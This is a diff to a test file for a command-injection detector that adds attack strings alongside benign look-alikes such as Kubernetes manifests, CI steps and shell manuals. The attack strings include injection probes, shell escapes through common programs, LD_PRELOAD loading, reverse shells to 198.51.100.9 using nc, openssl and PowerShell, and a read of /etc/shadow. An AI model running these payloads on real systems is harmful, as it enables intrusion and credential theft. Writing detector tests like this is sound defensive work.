@@ -3,6 +3,37 @@ import { cmdi } from './cmdi.ts';
 import { detectIn } from './testing/detect-in.ts';
 
 const ATTACKS: Readonly<Record<string, readonly string[]>> = {
+  'probes that compute or print': [
+    ';expr 31 + 11',
+    '|expr 400 - 4',
+    '`expr 9 + 9`',
+    '$(expr 7 \\* 6)',
+    '198.51.100.9;echo 4711',
+    "198.51.100.9|echo 'aGk=' | base64 -d > x.php",
+    'a||id',
+    'en&&id',
+    'lang||whoami||',
+  ],
+  'programs made to open a shell or to load code': [
+    'find . -exec /bin/sh \\; -quit',
+    "vim -c ':!/bin/sh'",
+    'env /bin/sh',
+    "sqlite3 /dev/null '.shell id'",
+    'tar cf x.tar x --checkpoint=1 --checkpoint-action=exec=sh',
+    '--rsh=sh',
+    '-ccore.pager=id',
+    'LD_PRELOAD=/tmp/a.so',
+    'PYTHONSTARTUP=/tmp/a.py',
+    'NODE_OPTIONS=--require /proc/self/environ',
+    'GIT_SSH_COMMAND=id',
+    "$c = New-Object System.Net.Sockets.TCPClient('198.51.100.9',443)",
+    'mkfifo /tmp/p; sh -i < /tmp/p 2>&1 | openssl s_client -connect 198.51.100.9:443 > /tmp/p',
+  ],
+  'a manifest or a fence around it': [
+    'name: shop\nversion: 2\nitems:\n  - a\n; id',
+    'name: shop\nversion: 2\nrun: x; cat /etc/shadow\n  - a\n',
+    'name: shop\n- a\n- b\n- x $(nc 198.51.100.9 443 -e /bin/sh)\n',
+  ],
   'a command behind data': [
     '; env',
     'x; env',
@@ -131,6 +162,23 @@ const ATTACKS: Readonly<Record<string, readonly string[]>> = {
 };
 
 const HONEST: Readonly<Record<string, readonly string[]>> = {
+  'manifests, pipelines, manuals': [
+    'kind: Pod\nspec:\n  containers:\n  - image: nginx\n    command:\n    - /bin/sh\n    - -c\n    - while true; do echo $(date) >> /data/out; sleep 1; done\n',
+    'steps:\n  - name: Lint\n    run: |\n      pylint $(git ls-files "*.py")\n      file=$(find . -name "*.json" | head -n 1)\n',
+    'spec:\n  containers:\n  - name: db\n    command: ["run"]\n    args: ["--host", "$(hostname -f)"]\n    env:\n      ip: $(hostname -i)\n',
+    'Resources:\n  Server:\n    UserData: |\n      id=$(curl -s http://169.254.169.254/latest/meta-data/instance-id)\n    Type: x\n',
+    'RUN apt-get update && apt-get install -y \\\n      curl \\\n      git && \\\n    rm -rf /var/lib/apt/lists/*\n',
+    '### `|` (pipe)\n```bash\negrep "cat|dog" pets.txt\n```\n',
+    'Put `debugger;` statements anywhere and run:\n```sh\nnpm test\n```\n',
+    'Combine it with `&` for the background:\n```bash\nnohup job &\n```\n',
+    'Run it as your own user:\n```console\n$ docker run -it \\\n  --user $(id -u):$(id -g) \\\n  image\n```\n',
+    'The pattern `ab{,2}c` matches abc and abbc.',
+    'NODE_OPTIONS=--max-old-space-size=4096',
+    'LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libjemalloc.so.2',
+    'expr | term',
+    'function mount<T>(component: string | Type<T>, config?: Config<T>) {',
+    '\\begin{tabular}{l|cc|r}\\keys{w} & Move to next word \\\\\n\\keys{W} & Move to next one \\\\\n\\end{tabular}',
+  ],
   sentences: [
     'apples; oranges; pears',
     'home; find it there',
